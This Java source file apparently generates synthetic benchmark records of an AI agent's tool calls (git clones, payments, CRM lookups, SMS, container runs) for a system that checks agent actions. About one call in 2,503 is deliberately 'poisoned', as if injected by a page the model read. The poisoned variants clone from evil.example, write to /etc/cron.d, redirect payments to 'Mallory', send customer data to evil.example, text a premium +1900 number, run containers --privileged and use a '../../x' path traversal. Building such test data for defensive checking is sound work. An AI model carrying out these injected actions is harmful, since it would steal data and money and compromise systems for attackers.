package dev.countersign.bench;

import dev.countersign.canonical.ExactText;
import dev.countersign.effect.ExecIntent;
import dev.countersign.effect.HeaderRules;
import dev.countersign.effect.RequestUrl;
import dev.countersign.effect.SendBody;
import dev.countersign.effect.SendIntent;
import dev.countersign.effect.Verb;
import dev.countersign.learn.Learning;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Files of what was learned from an application that there is not, by the agent's own writer:
 * {@value #TOOLS} tools of eight kinds, each with constants of its own, whose calls never repeat,
 * in runs of {@value #RUN} effects. Of some thousand calls one is poisoned, as a page that a model
 * read would do it; some calls are made from inside others, and some effects happen outside all.
 */
final class LearnedCalls {

  static final int TOOLS = 400;

  private static final int RUN = 250_000;

  private static final int POISONED = 2_503;

  private static final String CODE = "CS-UNBOUND";

  private final Path directory;
  private Learning learning;
  private long effects;
  private long calls;
  private long random = 0x9e3779b97f4a7c15L;

  private LearnedCalls(Path directory) {
    this.directory = directory;
  }

  /** Writes files with at least that many effects, and returns how many they have. */
  static long write(Path directory, long effects) throws IOException {
    LearnedCalls made = new LearnedCalls(directory);
    for (int run = 0; made.effects < effects; run++) {
      made.begin(run);
      long end = Math.min(effects, (run + 1L) * RUN);
      while (made.effects < end) {
        made.call();
      }
    }
    return made.effects;
  }

  private void begin(int run) throws IOException {
    Map<String, Object> about = new LinkedHashMap<>();
    about.put("run", "run" + run);
    about.put("bundle", "benchmark");
    about.put("version", 1L);
    about.put("ledger", "ledger");
    about.put("frameworks", List.of("auto"));
    about.put("elsewhere_exec", "allow");
    about.put("elsewhere_send", "allow");
    learning =
        Learning.begin(directory.resolve("run" + run + ".learned"), about, HeaderRules.DEFAULT);
  }

  /** The same sequence each time: xorshift. */
  private int next(int bound) {
    random ^= random << 13;
    random ^= random >>> 7;
    random ^= random << 17;
    return (int) ((random >>> 33) % bound);
  }

  private void call() {
    calls++;
    int tool = next(TOOLS);
    boolean poisoned = calls % POISONED == 0;
    String id = String.format("%032x", calls);
    learning.called(id, "tool_" + tool, null);
    switch (tool % 8) {
      case 0:
        clone(id, tool, poisoned);
        break;
      case 1:
        convert(id, tool, poisoned);
        break;
      case 2:
        pay(id, tool, poisoned);
        break;
      case 3:
        look(id, tool, poisoned);
        break;
      case 4:
        form(id, tool, poisoned);
        break;
      case 5:
        each(id, tool);
        break;
      case 6:
        nested(id, tool, poisoned);
        break;
      default:
        report(id, tool, poisoned);
        break;
    }
    if (calls % 41 == 0) {
      exec(null, null, null, Map.of(), "uname", "-a");
    }
  }

  private void clone(String id, int tool, boolean poisoned) {
    long n = calls;
    String url = "https://git.example/team-" + next(900) + "/repository-" + n + ".git";
    String dir = "/srv/work/" + n + "/checkout";
    Map<String, Object> args = args("url", url, "dir", dir, "depth", (long) (1 + next(9)));
    exec(
        id,
        args,
        null,
        Map.of("LANG", "C", "GIT_TERMINAL_PROMPT", "0"),
        "git",
        "-c",
        "protocol.version=" + tool % 3,
        "clone",
        "--depth=" + args.get("depth"),
        "--",
        poisoned ? "https://evil.example/" + n : url,
        dir);
  }

  private void convert(String id, int tool, boolean poisoned) {
    List<Object> files = new ArrayList<>();
    for (int i = 0; i <= next(5); i++) {
      files.add("in/page-" + calls + "-" + i + ".png");
    }
    String out = "out/" + calls + ".pdf";
    Map<String, Object> args = args("files", files, "out", out);
    if (next(3) > 0) {
      args.put("quality", (long) next(100));
    }
    List<String> argv = new ArrayList<>(List.of("convert-" + tool, "--strip"));
    if (args.containsKey("quality")) {
      argv.add("--quality=" + args.get("quality"));
    }
    for (Object file : files) {
      argv.add((String) file);
    }
    argv.add(poisoned ? "/etc/cron.d/x" : out);
    exec(id, args, "/srv/convert", Map.of(), argv.toArray(new String[0]));
  }

  private void pay(String id, int tool, boolean poisoned) {
    Map<String, Object> to = args("name", "Supplier " + next(5000), "iban", "DE" + next(1 << 30));
    Map<String, Object> args =
        args("to", to, "amount", new java.math.BigDecimal(next(100000) + ".50"), "note", text());
    Map<String, Object> body = new LinkedHashMap<>();
    body.put("creditor", poisoned ? args("name", "Mallory", "iban", "XX1") : to);
    body.put("amount", args.get("amount"));
    body.put("remittance", "ref " + args.get("note"));
    body.put("scheme", "SEPA");
    send(
        id,
        args,
        "POST",
        "https://bank-" + tool % 20 + ".example/v1/payments",
        "application/json",
        ExactText.of(body),
        "idempotency-key",
        String.format("%016x", calls * 0x9e3779b97f4a7c15L));
  }

  private void look(String id, int tool, boolean poisoned) {
    String customer = "c-" + next(1 << 30);
    Map<String, Object> args = args("customer", customer, "page", (long) next(50), "query", text());
    send(
        id,
        args,
        "GET",
        "https://"
            + (poisoned ? "evil" : "crm-" + tool % 30)
            + ".example/customers/"
            + customer
            + "/orders?page="
            + args.get("page")
            + "&q="
            + RequestUrl.encoded((String) args.get("query")),
        null,
        null,
        "authorization",
        "Bearer " + tool);
  }

  private void form(String id, int tool, boolean poisoned) {
    Map<String, Object> args = args("to", "+49" + next(1 << 30), "text", text());
    send(
        id,
        args,
        "POST",
        "https://sms.example/send/" + tool,
        "application/x-www-form-urlencoded",
        "to="
            + RequestUrl.encoded(poisoned ? "+1900" : (String) args.get("to"))
            + "&text="
            + RequestUrl.encoded((String) args.get("text"))
            + "&from=bot");
  }

  private void each(String id, int tool) {
    List<Object> items = new ArrayList<>();
    for (int i = 0; i <= next(4); i++) {
      items.add(args("sku", "sku-" + next(1 << 30), "count", (long) (1 + next(20))));
    }
    Map<String, Object> args = args("items", items, "store", "s" + next(80));
    for (Object each : items) {
      Map<?, ?> item = (Map<?, ?>) each;
      send(
          id,
          args,
          "PUT",
          "https://stock-" + tool + ".example/items/" + item.get("sku"),
          "application/json",
          "{\"count\":" + item.get("count") + "}");
    }
  }

  /** One tool calls another, and goes on when that has ended. */
  private void nested(String id, int tool, boolean poisoned) {
    String name = "job-" + calls;
    Map<String, Object> args = args("name", name, "image", "registry.example/app:" + next(1 << 20));
    exec(id, args, null, Map.of(), "podman", "pull", "--", (String) args.get("image"));
    calls++;
    String inner = String.format("%032x", calls);
    learning.called(inner, "tool_" + (tool + 2) % TOOLS, null);
    clone(inner, tool + 2, false);
    exec(
        id,
        args,
        null,
        Map.of(),
        "podman",
        "run",
        "--name=" + name,
        "--pids-limit=" + tool,
        poisoned ? "--privileged" : "--read-only",
        "--",
        (String) args.get("image"));
  }

  private void report(String id, int tool, boolean poisoned) {
    Map<String, Object> args = args("month", "2026-" + (10 + next(3)), "title", text());
    exec(
        id,
        args,
        "/srv/reports/" + tool,
        Map.of("REPORT_TITLE", (String) args.get("title"), "TMPDIR", "/srv/t/" + calls),
        "/usr/local/bin/report",
        poisoned ? "--template=../../x" : "--template=monthly",
        "--month=" + args.get("month"),
        "--out=" + args.get("month") + ".html");
  }

  private String text() {
    StringBuilder text = new StringBuilder();
    for (int i = 3 + next(12); i > 0; i--) {
      text.append(text.length() == 0 ? "" : " ").append(Integer.toString(next(1 << 28), 36));
    }
    return text.toString();
  }

  private static Map<String, Object> args(Object... pairs) {
    Map<String, Object> args = new LinkedHashMap<>();
    for (int i = 0; i < pairs.length; i += 2) {
      args.put((String) pairs[i], pairs[i + 1]);
    }
    return args;
  }

  private void exec(
      String id, Map<String, Object> args, String dir, Map<String, String> set, String... argv) {
    effects++;
    Map<String, Object> intent =
        new ExecIntent(List.of(argv), dir, set, List.of(), "pipe", "pipe", "pipe", false).toJson();
    learning.effect(id, args, Verb.EXEC, intent, null, null, id == null ? null : CODE);
  }

  private void send(
      String id,
      Map<String, Object> args,
      String method,
      String url,
      String type,
      String content,
      String... headers) {
    effects++;
    SendIntent intent = new SendIntent(method, RequestUrl.parse(url), HeaderRules.DEFAULT);
    intent.header("accept", "application/json");
    if (type != null) {
      intent.header("content-type", type);
    }
    for (int i = 0; i < headers.length; i += 2) {
      intent.header(headers[i], headers[i + 1]);
    }
    SendBody body =
        content == null
            ? SendBody.NONE
            : SendBody.of(List.of(content.getBytes(StandardCharsets.UTF_8)), List.of(), 1 << 20);
    learning.effect(id, args, Verb.SEND, intent.toJson(body), body, null, CODE);
  }
}
